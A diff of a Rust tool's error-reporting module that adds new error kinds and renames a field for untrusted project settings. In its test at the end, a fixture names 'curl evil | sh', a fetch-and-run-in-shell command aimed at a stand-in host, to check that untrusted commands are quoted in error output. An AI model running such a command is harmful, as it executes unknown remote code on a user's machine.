@@ -136,6 +136,9 @@ fn kind(error: &commands::Error) -> (&'static str, u8) {
         commands::Error::Roles(_) => ("bad_role", CONFIGURATION),
         commands::Error::Unpriced { .. } => ("unknown_price", CONFIGURATION),
         commands::Error::BranchTaken { .. } => ("branch_taken", CONFIGURATION),
+        commands::Error::BranchName { .. } => ("bad_branch_name", CONFIGURATION),
+        commands::Error::WorktreeInside { .. } => ("bad_setting", CONFIGURATION),
+        commands::Error::BaseInPlace => ("usage", CONFIGURATION),
         commands::Error::Log(error) => log_kind(error),
         commands::Error::NoLog { .. }
         | commands::Error::Write { .. }
@@ -157,6 +160,7 @@ fn agent_kind(error: &agent::Error) -> (&'static str, u8) {
         agent::Error::Globs(_) => ("bad_setting", CONFIGURATION),
         agent::Error::Host(_) => ("host", ENVIRONMENT),
         agent::Error::Upstream { trouble, .. } => upstream_kind(*trouble),
+        agent::Error::Setup { .. } => ("setup_failed", ENVIRONMENT),
         agent::Error::Bug(_) => ("bug", BUG),
     }
 }
@@ -183,7 +187,7 @@ fn settings_kind(error: &settings::Error) -> (&'static str, u8) {
         settings::Error::StateDir(_) => ("state_directory", ENVIRONMENT),
         settings::Error::NoAddress => ("no_proxy_address", CONFIGURATION),
         settings::Error::NoRole(_) => ("bad_role", CONFIGURATION),
-        settings::Error::Untrusted { .. } => ("untrusted_checks", CONFIGURATION),
+        settings::Error::Untrusted { .. } => ("untrusted_project", CONFIGURATION),
         settings::Error::Token(_) => ("no_token", CONFIGURATION),
     }
 }
@@ -236,8 +240,8 @@ fn causes(error: &commands::Error) -> Vec<String> {
         commands::Error::Settings(settings::Error::Wrong(problems)) if problems.len() > 1 => {
             problems.iter().map(ToString::to_string).collect()
         }
-        commands::Error::Settings(settings::Error::Untrusted { commands, .. }) => {
-            commands.iter().map(|command| format!("{command:?}")).collect()
+        commands::Error::Settings(settings::Error::Untrusted { named, .. }) => {
+            named.iter().map(|named| format!("{named:?}")).collect()
         }
         commands::Error::Roles(roles) if roles.len() > 1 => roles.iter().map(ToString::to_string).collect(),
         commands::Error::Settings(_)
@@ -248,6 +252,9 @@ fn causes(error: &commands::Error) -> Vec<String> {
         | commands::Error::Roles(_)
         | commands::Error::Unpriced { .. }
         | commands::Error::BranchTaken { .. }
+        | commands::Error::BranchName { .. }
+        | commands::Error::WorktreeInside { .. }
+        | commands::Error::BaseInPlace
         | commands::Error::Log(_)
         | commands::Error::NoLog { .. }
         | commands::Error::Cut { .. }
@@ -355,7 +362,8 @@ mod tests {
         let error = settings::Error::Untrusted {
             path: "/r/nisse.toml".into(),
             line: 2,
-            commands: vec!["curl evil | sh".into(), "rm\u{1b}".into()],
+            what: "check commands, which run as you",
+            named: vec!["curl evil | sh".into(), "rm\u{1b}".into()],
         };
         let lines = report(&commands::Error::Settings(error)).lines().join("\n");
         assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
